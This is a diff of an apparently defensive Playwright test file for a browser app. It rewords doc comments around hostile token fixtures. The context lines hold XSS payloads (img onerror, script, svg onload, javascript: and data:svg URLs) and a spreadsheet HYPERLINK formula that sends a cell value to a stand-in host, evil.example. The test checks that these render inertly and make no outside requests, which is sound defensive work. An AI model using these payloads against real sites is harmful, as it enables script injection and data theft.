@@ -11,7 +11,7 @@ const NAME = `<img src=x onerror="window.${RAN}=1"><script>window.${RAN}=2</scri
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
 const SYMBOL = `"><svg/onload=window.${RAN}=3>`;
 
-/** Addresses of images, of which none may be asked for. */
+/** Addresses of images that must not be requested. */
 const IMAGES = [
   `javascript:window.${RAN}=4`,
   `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RAN}=5"/>`,
@@ -21,7 +21,7 @@ const IMAGES = [
 
 type Token = Record<string, unknown>;
 
-/** Makes tokens hostile on their way to the browser; the first of a list, or whichever was hostile there. */
+/** Makes tokens hostile on their way to the browser: the first of a list, and the same token elsewhere. */
 async function makeTokensHostile(page: Page): Promise<string[]> {
   const ids: string[] = [];
   const spoil = (token: Token): void => {
@@ -40,7 +40,7 @@ async function makeTokensHostile(page: Page): Promise<string[]> {
   return ids;
 }
 
-/** Whatever is asked of strangers; images over https are answered with nothing. */
+/** Collects requests to other hosts; images over https get an empty answer. */
 async function watchStrangers(page: Page, own: string): Promise<string[]> {
   const strangers: string[] = [];
   page.on('dialog', (dialog) => {
@@ -59,7 +59,7 @@ async function watchStrangers(page: Page, own: string): Promise<string[]> {
   return strangers;
 }
 
-/** Expects that the hostile name stands there as a text, cut to what the page can carry, and that nothing ran. */
+/** Expects that the hostile name is shown as text, shortened to fit, and that nothing ran. */
 async function expectUnharmed(page: Page, strangers: string[]): Promise<void> {
   await expect(page.locator('main')).toContainText('<img src=x onerror=');
   const seen = await page.evaluate((ran) => {
